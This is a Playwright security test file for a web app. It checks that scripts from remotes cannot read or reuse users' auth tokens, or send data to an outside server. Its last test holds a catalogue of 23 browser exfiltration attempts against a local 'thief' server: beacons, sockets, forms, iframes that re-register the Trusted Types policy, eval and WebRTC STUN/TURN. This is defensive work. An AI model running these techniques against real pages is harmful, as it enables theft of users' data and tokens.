import { createHash } from 'node:crypto'
import { createSocket } from 'node:dgram'
import { once } from 'node:events'
import { createServer } from 'node:http'
import { type AddressInfo, createServer as createTcpServer } from 'node:net'
import type { Frame, Page } from '@playwright/test'
import { goTo } from '../actions/go-to'
import { findNoted, hookBuiltIns } from '../browser/hook-built-ins'
import { recordIssuedTokens } from '../browser/issued-tokens'
import { openStoredTokens } from '../browser/open-stored-tokens'
import { sectionOf, wordsOf } from '../remotes/sections'
import { expect, signInAs, test } from '../test'

// The code of a remote runs as a script of the page: each attempt here is one of its scripts. docs/threats.md says what
// remains possible.

const home = (page: Page) => page.getByText('صندوق‌های برتر').first()

/**
 * A frame of its own has Trusted Types of its own, where the shell's policy is not there yet. A worker that is started in
 * the moment in which its frame is made is sometimes blocked by Chromium: its browser does not know yet whose frame it is.
 */
async function openFrame(page: Page): Promise<Frame> {
  const element = await page.evaluateHandle(() => document.body.appendChild(document.createElement('iframe')))
  const frame = await element.contentFrame()
  if (!frame) throw new TypeError('An iframe has no frame')
  return frame
}

test('T6 hooks that stand before the shell starts see no token through sign-in, calls and a renewal @sessions', async ({
  page,
  context,
  platform,
  sandbox,
  watch,
}) => {
  watch.expectComplaints(/status of 401/)
  await context.addInitScript(hookBuiltIns)
  const tokens = recordIssuedTokens(context, platform)
  const person = await sandbox.newPerson('investor')
  await signInAs(page, sandbox, person)
  await expect(home(page)).toBeVisible()
  await sandbox.control('expire-tokens', { sub: person.sub })
  await goTo(page, '/card')
  await expect(wordsOf(page, sectionOf('bank'))).toBeVisible()
  // An access token, a refresh token and an ID token of the sign-in, and of the renewal; its ID token may be the same.
  await expect.poll(() => tokens.size).toBeGreaterThanOrEqual(5)
  const { found, noted } = await page.evaluate(findNoted, [...tokens, 'v1.', 'top-funds'])
  expect(noted).toBeGreaterThan(100)
  expect(found).toEqual(['v1.'])
})

test('T6 T13 what a remote opens of the stored tokens is sealed, and of use neither there nor elsewhere', async ({
  page,
  context,
  platform,
  request,
  signIn,
  watch,
}) => {
  watch.expectComplaints(/status of (400|401|403)/)
  const tokens = recordIssuedTokens(context, platform)
  await signIn('investor')
  await expect(home(page)).toBeVisible()
  await expect.poll(() => tokens.size).toBe(3)
  const { sub, access = '', refresh = '', id } = await page.evaluate(openStoredTokens)
  expect(sub).toMatch(/^[\da-f-]{36}$/)
  for (const sealed of [access, refresh, id]) expect(sealed).toMatch(/^v1\./)
  expect([...tokens].filter((token) => [access, refresh, id].includes(token))).toEqual([])

  const { api, identity } = platform.sandbox
  const elsewhere = [
    await request.get(`${api}/onboarding/api/v1/profile/`, { headers: { Authorization: `Bearer ${access}` } }),
    await request.post(`${identity}/token`, {
      form: { grant_type: 'refresh_token', client_id: 'sarv-web', refresh_token: refresh },
    }),
  ]
  expect(elsewhere.map((answer) => answer.status())).toEqual([401, 400])
  // Only a worker that starts gets the key, and it is kept where no script can read it.
  const asked = await page.evaluate(async () => {
    const answer = await fetch('/workers/tokens.js', { cache: 'force-cache' })
    return [answer.status, await answer.text(), document.cookie]
  })
  expect(asked).toEqual([403, '', expect.not.stringContaining('sarv-tokens')])
  const cookies = await context.cookies(`${platform.origin}/workers/tokens.js`)
  const key = cookies.find(({ name }) => name === 'sarv-tokens')
  expect(key).toMatchObject({ httpOnly: true, sameSite: 'Strict', path: '/workers/tokens.js' })
})

test('T6 a token worker that a remote starts itself gives it no token, and calls no one of its choice', async ({
  page,
  context,
  platform,
  signIn,
  watch,
}) => {
  watch.expectComplaints(/policy: |report: |TrustedScriptURL/)
  const tokens = recordIssuedTokens(context, platform)
  await signIn('investor')
  await expect(home(page)).toBeVisible()
  const stored = await page.evaluate(openStoredTokens)
  const { origin } = platform
  const frame = await openFrame(page)
  const answers = await frame.evaluate(
    async ({ sealed, origin }) => {
      const policies = Reflect.get(window, 'trustedTypes') as {
        createPolicy(name: string, rules: object): { createScriptURL(address: string): string }
      }
      const policy = policies.createPolicy('sarv', { createScriptURL: (address: string) => address })
      const worker = new Worker(policy.createScriptURL(`${origin}/workers/tokens.js`))
      const failed = new Promise<unknown>((resolve) => {
        worker.onerror = () => resolve('not started')
      })
      const [calls, host, sent] = [new MessageChannel(), new MessageChannel(), new MessageChannel()]
      const reply = (port: MessagePort) =>
        Promise.race([
          failed,
          new Promise<unknown>((resolve) => {
            port.onmessage = ({ data }) => resolve(data)
          }),
        ])
      worker.postMessage({ kind: 'identity' }, [calls.port2, host.port2])
      const renewed = reply(calls.port1)
      calls.port1.postMessage({ id: 1, method: 'renew', args: [sealed] })
      const answers = [await renewed]
      const headers = { Authorization: `Bearer ${sealed.access}` }
      const refused = reply(sent.port1)
      worker.postMessage({ kind: 'send', request: { url: `${origin}/home`, method: 'GET', headers } }, [sent.port2])
      return [...answers, await refused]
    },
    { sealed: stored, origin },
  )
  // It may renew, as the shell may, and gets what the shell gets.
  expect(answers).toEqual([
    { id: 1, result: expect.objectContaining({ sub: stored.sub, access: expect.stringMatching(/^v1\./) }) },
    { kind: 'failed', message: 'That is not the API' },
  ])
  const told = JSON.stringify(answers)
  // Within one second an ID token is the same as before.
  await expect.poll(() => tokens.size).toBeGreaterThanOrEqual(5)
  expect([...tokens].filter((token) => told.includes(token))).toEqual([])
})

/** The scripts that the other server offers, and the one that a remote writes itself: each says that it has run. */
const ranMark = 'sarvRan'
const foreignScript = `(globalThis.${ranMark} ??= []).push('foreign')`

/** A server that this app does not know: it records what reaches it by HTTP, UDP and TCP. */
async function openThief() {
  const arrived: string[] = []
  const server = createServer(({ url = '' }, response) => {
    arrived.push(url)
    response.writeHead(200, { 'Access-Control-Allow-Origin': '*', 'Content-Type': 'text/javascript' })
    response.end(url.includes('script') ? foreignScript : '')
  })
  const udp = createSocket('udp4', () => arrived.push('udp'))
  const tcp = createTcpServer((socket) => {
    arrived.push('tcp')
    socket.destroy()
  })
  const listening = [server.listen(0, '127.0.0.1'), tcp.listen(0, '127.0.0.1'), udp.bind(0, '127.0.0.1')]
  await Promise.all(listening.map((one) => once(one, 'listening')))
  return {
    arrived,
    origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    stun: `stun:127.0.0.1:${udp.address().port}`,
    turn: `turn:127.0.0.1:${(tcp.address() as AddressInfo).port}?transport=tcp`,
    async close() {
      server.closeAllConnections()
      await Promise.all([server, tcp, udp].map((one) => new Promise<void>((resolve) => one.close(() => resolve()))))
    },
  }
}

/** Everything that a script of the page tries at once to reach the other server. @returns what came of each attempt */
async function tryExits({ thiefs, stun, turn, integrity }: Record<'thiefs' | 'stun' | 'turn' | 'integrity', string>) {
  const settled = (element: HTMLElement, parent: ParentNode = document.body) =>
    new Promise<string>((resolve) => {
      element.onload = () => resolve('passed')
      element.onerror = () => resolve('blocked')
      parent.append(element)
    })
  const loaded = (element: HTMLElement, address: string) => {
    Reflect.set(element, 'src' in element ? 'src' : 'href', address)
    return settled(element)
  }
  const opened = (source: EventTarget) =>
    new Promise((resolve, reject) => {
      source.addEventListener('open', resolve)
      source.addEventListener('error', () => reject(new Error('blocked')))
    })
  const link = (own: Partial<HTMLLinkElement>) => Object.assign(document.createElement('link'), own)
  /** A realm of its own, in which the name of the page's policy is free. */
  const realm = () => {
    const frame = document.body.appendChild(document.createElement('iframe'))
    const { contentDocument, contentWindow } = frame
    if (!contentDocument || !contentWindow) throw new TypeError('An iframe has no frame')
    const factory = Reflect.get(contentWindow, 'trustedTypes')
    const same = (text: string) => text
    const policy = factory?.createPolicy('sarv', { createScriptURL: same, createScript: same })
    return {
      frame,
      contentDocument,
      contentWindow,
      trusted: (kind: string, text: string) => policy?.[kind](text) ?? text,
    }
  }
  const frameScript = (own: (trusted: (kind: string, text: string) => unknown) => object) => {
    const { contentDocument, trusted } = realm()
    const script = Object.assign(contentDocument.createElement('script'), own(trusted))
    return settled(script, contentDocument.body)
  }
  const connected = async (urls: string) => {
    const connection = new RTCPeerConnection({
      iceServers: [{ urls, username: 'a', credential: 'b' }],
      iceTransportPolicy: urls.startsWith('turn') ? 'relay' : 'all',
    })
    connection.createDataChannel('words')
    const complete = new Promise((resolve) => {
      connection.onicegatheringstatechange = () => connection.iceGatheringState === 'complete' && resolve('')
    })
    await connection.setLocalDescription(await connection.createOffer())
    await complete
    connection.close()
    return 'see what arrived'
  }
  const hash = { crossOrigin: 'anonymous', integrity }
  const attempts: Record<string, () => unknown> = {
    fetch: () => fetch(`${thiefs}/fetch`),
    beacon: () => {
      navigator.sendBeacon(`${thiefs}/beacon`, 'x')
      throw new Error('see what arrived')
    },
    socket: () => opened(new WebSocket(`${thiefs.replace('http', 'ws')}/socket`)),
    events: () => opened(new EventSource(`${thiefs}/events`)),
    picture: () => loaded(document.createElement('img'), `${thiefs}/picture`),
    media: () => loaded(document.createElement('video'), `${thiefs}/media`),
    style: () => loaded(link({ rel: 'stylesheet' }), `${thiefs}/style`),
    script: () => loaded(document.createElement('script'), `${thiefs}/script`),
    import: () => import(/* @vite-ignore */ `${thiefs}/script-import`),
    worker: () => opened(new Worker(`${thiefs}/worker`)),
    form: () => {
      const form = Object.assign(document.createElement('form'), { action: `${thiefs}/form`, method: 'POST' })
      document.body.append(form)
      form.submit()
      throw new Error('see what arrived')
    },
    modulepreload: () => loaded(link({ rel: 'modulepreload', ...hash }), `${thiefs}/script-module`),
    'import of it': () => import(/* @vite-ignore */ `${thiefs}/script-module`),
    preload: () => loaded(link({ rel: 'preload', as: 'script', ...hash }), `${thiefs}/script-preload`),
    'script in a frame': () =>
      frameScript((trusted) => ({ ...hash, src: trusted('createScriptURL', `${thiefs}/script-frame`) })),
    'inline script in a frame': async () => {
      const text = `(parent.sarvRan ??= []).push('inline')`
      await Promise.race([
        frameScript((trusted) => ({ textContent: trusted('createScript', text) })),
        new Promise((resolve) => setTimeout(resolve, 500)),
      ])
      return Reflect.get(window, 'sarvRan')?.includes('inline') ? 'passed' : 'blocked'
    },
    'code from text in a frame': () => {
      const { contentWindow, trusted } = realm()
      return Reflect.get(contentWindow, 'eval')(trusted('createScript', `(parent.sarvRan ??= []).push('eval')`))
    },
    'fetch of a frame': () => realm().contentWindow.fetch(`${thiefs}/frame-fetch`),
    'page in a frame': () => {
      realm().frame.src = `${thiefs}/frame-page`
      throw new Error('see what arrived')
    },
    'own page in a frame': () => {
      const text = `<script>(parent.sarvRan ??= []).push('page')</script>`
      realm().frame.src = URL.createObjectURL(new Blob([text], { type: 'text/html' }))
      throw new Error('see what has run')
    },
    'prefetch of a page': () => {
      document.head.append(link({ rel: 'prefetch', href: `${thiefs}/prefetch` }))
      throw new Error('see what arrived')
    },
    'WebRTC by UDP': () => connected(stun),
    'WebRTC by TCP': () => connected(turn),
  }
  const outcomes: Record<string, string> = {}
  for (const [name, attempt] of Object.entries(attempts))
    outcomes[name] = await Promise.resolve()
      .then(attempt)
      .then(String, () => 'blocked')
  return { outcomes, ran: Reflect.get(window, 'sarvRan') ?? [] }
}

test('T6 a remote sends nothing out of the page but by leaving it or by WebRTC, and runs no script but the catalogue’s', async ({
  page,
  browserName,
  signIn,
  watch,
}) => {
  watch.expectComplaints(
    /policy: |report: |Content Security Policy|TrustedScript|Trusted|ERR_BLOCKED|Failed to|violat/i,
  )
  const thief = await openThief()
  await signIn('investor')
  await expect(home(page)).toBeVisible()
  const integrity = `sha256-${createHash('sha256').update(foreignScript).digest('base64')}`
  const { origin: thiefs, stun, turn } = thief
  const { outcomes, ran } = await page.evaluate(tryExits, { thiefs, stun, turn, integrity })
  expect(Object.keys(outcomes)).toHaveLength(23)
  const passed = Object.entries(outcomes).filter(([, outcome]) => !['blocked', 'see what arrived'].includes(outcome))
  expect(passed).toEqual([])
  expect(ran).toEqual([])
  // The two documented ways: no policy of a page stops it from being left, and none that browsers know stops WebRTC.
  await page.evaluate((address) => location.assign(address), `${thiefs}/left`)
  await expect.poll(() => thief.arrived).toContain('/left')
  const others = new Set(thief.arrived.filter((url) => url !== '/left' && url !== '/favicon.ico'))
  // Firefox asks no server on its own machine, and WebKitGTK has no WebRTC.
  expect([...others].sort()).toEqual(browserName === 'chromium' ? ['tcp', 'udp'] : [])
  await thief.close()
})
